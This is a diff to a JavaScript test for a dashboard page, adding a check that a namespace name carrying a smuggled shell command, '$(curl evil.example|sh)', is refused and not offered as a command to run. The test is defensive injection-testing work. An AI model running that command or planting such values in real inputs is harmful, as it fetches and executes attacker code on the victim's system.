@@ -304,6 +304,10 @@ describe('dashboard page (app.js)', () => {
     // Back to the list: its stream opens.
     page.activate('', '#/');
     assert.equal(page.streams.length, 1);
+    // What no namespace can be named is not offered as a command to run.
+    const odd = await openPage(`#/app/${encodeURIComponent('$(curl evil.example|sh)')}/web`, { scope: 'shop' });
+    assert.equal(textOf(odd.document.getElementById('main')).includes('-n $('), false);
+    assert.match(textOf(odd.document.getElementById('main')), /"\$\(curl evil\.example\|sh\)" is no namespace name; this dashboard's scope is namespace shop\./);
   });
 
   it('the list while the watch of Apps fails (RBAC forbids it): says the Apps cannot be shown, not that there are none', async () => {
